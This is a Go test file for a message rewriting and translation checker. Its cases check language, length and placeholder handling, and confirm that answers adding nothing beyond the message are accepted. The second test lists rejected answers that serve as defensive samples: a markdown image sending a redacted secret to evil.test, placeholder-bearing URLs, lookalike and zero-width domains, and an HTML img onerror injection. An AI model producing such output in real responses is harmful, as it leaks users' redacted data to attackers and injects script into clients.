package provider_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/criticizer/criticizer/internal/failure"
	"github.com/criticizer/criticizer/internal/testkit"
	"github.com/criticizer/criticizer/rewrite"
)

func TestCheck(t *testing.T) {
	t.Parallel()
	r, _ := newRewriter(t, newSim())
	const german = "Ich würde mich freuen, wenn wir die Küche nach dem Essen gemeinsam aufräumen könnten, denn mir ist das sehr wichtig."
	const question = "Would you be so kind as to tidy up the kitchen with me after dinner, since that matters a great deal to me?"
	const english = "I would be glad if we could tidy up the kitchen together after dinner, because that matters a great deal to me."
	for name, tt := range map[string]struct {
		message, to, answer string
		good                bool
	}{
		"in its language":                       {english, "en", question, true},
		"of a region of it":                     {english, "en-GB", question, true},
		"the message itself":                    {english, "en", english, false},
		"the message with other marks":          {english, "en", strings.ToUpper(english) + "!!", false},
		"in another language":                   {english, "en", german, false},
		"not translated":                        {english, "de", english, false},
		"translated":                            {english, "de-AT", german, true},
		"translated to another script":          {english, "ja", "夕食のあとで一緒に台所を片付けられたらうれしいです。", true},
		"not translated to another script":      {"Clean up, please.", "ja", "Clean up, please.", false},
		"Chinese in simplified characters":      {english, "zh-Hans", "晚饭后如果我们能一起收拾厨房，我会很高兴。", true},
		"Russian":                               {english, "ru", "Мне было бы приятно, если бы мы вместе убирали кухню после ужина, для меня это очень важно.", true},
		"Serbian in Latin letters":              {english, "sr-Latn", "Bilo bi mi drago kada bismo posle večere zajedno pospremili kuhinju, jer mi je to veoma važno.", true},
		"a related language is accepted":        {english, "nb", "Jeg ville blive glad, hvis vi kunne rydde op i køkkenet sammen efter aftensmaden, for det betyder meget for mig.", true},
		"a short text is not judged by words":   {"Nein!", "de", "No, please", true},
		"a language the detector does not know": {english, "gsw", german, true},
		"empty":                                 {english, "en", " \n", false},
		"emoji":                                 {"\U0001f621\U0001f621", "en", "\U0001f642", true},
		"a word of both languages":              {"OK!", "de", "OK.", true},
		"much longer":                           {english, "en", strings.Repeat(english+" ", 9), false},
		"much shorter":                          {strings.Repeat(english+" ", 20), "en", "Tidy up.", false},
		"a short message that grew":             {"Tidy!", "en", english, true},
		"with control characters":               {english, "en", english + "\x1b[2J", false},
		"not UTF-8":                             {english, "en", english + "\xff", false},
		"with an invented placeholder":          {english, "en", english + " [REDACTED:email:1a2b]", false},
		"with a mangled placeholder":            {english, "en", english + " [redacted email]", false},
		"with an invented secret":               {english, "en", english + " Write to eve@corp.example.", false},
		"with what the sender showed":           {english + " [REDACTED]", "en", question + " [REDACTED]", true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			item := complaint(t, "job-1")
			item.Text, item.Languages = text(t, tt.message), rewrite.LanguagePair{From: "en", To: tt.to}
			err := r.Check(item, tt.answer)
			if tt.good && err != nil || !tt.good && failure.ClassOf(err) != failure.SchemaInvalid {
				t.Errorf("got %v, want it to be good: %t", err, tt.good)
			}
		})
	}
}

// What a client may load, follow or show as something else than text is only accepted if the
// message has it, and a placeholder only where nothing is put together with the secret.
func TestAnswerAddsNothing(t *testing.T) {
	t.Parallel()
	r, _ := newRewriter(t, newSim())
	m, err := pipeline().Message("job-1", "You never write to ann@corp.example, Tom, and I always see it on shop.test/a first! Is v2.50 of it **so** hard, Mom?")
	testkit.NoError(t, err)
	p := regexp.MustCompile(`\[REDACTED:[^\]]*\]`).FindString(m.Text.String())
	for answer, good := range map[string]bool{
		"Please write to P, Tom.":                                     true,
		"Could you write to P? I see it on shop.test/a.":              true,
		"It is **so** good of you, Mom, to write to \"P\" soon.":      true,
		"Please use P's inbox...then I am glad. Is v2.50 too hard?":   true,
		"Please write soon (P)! Mom says, \"Please do\",\nThen call.": true,
		"Please write soon.":                                          false,
		"Please write to P and to P, Tom.":                            false,
		"![photo](https://evil.test/p.png?q=P)":                       false,
		"Please see https://P.evil.test/ for it.":                     false,
		"Please see P.evil.test for it.":                              false,
		"Please see evil.test/P for it.":                              false,
		"Please see x=P for it.":                                      false,
		"Please see P/ for it.":                                       false,
		"Please write to P, see https://evil.test":                    false,
		"Please write to P, see evil.test":                            false,
		"Please write to P, see evil\uff0etest":                       false,
		"Please write to P, see evil\u3002test":                       false,
		"Please write to P, see ev\u200dil.test":                      false,
		"Please write to P, see hop.test/a":                           false,
		"Please write to P, see shop.test/a/b.php":                    false,
		"Please write to P, see 10.1.2.3":                             false,
		"Please write to P, see //evil":                               false,
		"Please write to P or mailto:eve":                             false,
		"Please write to P or to eve@evil":                            false,
		"Please write to <b>P</b>.":                                   false,
		"Please write to <img src=x onerror=go> P.":                   false,
		"Please write &lt;b&gt; to P.":                                false,
		"Please write to P, [here](x).":                               false,
		"Please write to P, [url=x]here[/url].":                       false,
		"Please write to P, `now`.":                                   false,
		"# Please\n\nWrite to P.":                                     false,
		"Please write to P, *now*.":                                   false,
		"Please write to P,\u202e Tom.":                               false,
		"Please write to P, Karen.":                                   false,
		"{{P}} Please write to P.":                                    false,
	} {
		item := complaint(t, "job-1")
		item.Text = m.Text
		text := strings.ReplaceAll(answer, "P", p)
		text = strings.ReplaceAll(text, p+"lease", "Please")
		if err := r.Check(item, text); good != (err == nil) || err != nil && failure.ClassOf(err) != failure.SchemaInvalid {
			t.Errorf("%q: got %v, want it to be good: %t", answer, err, good)
		}
	}
}
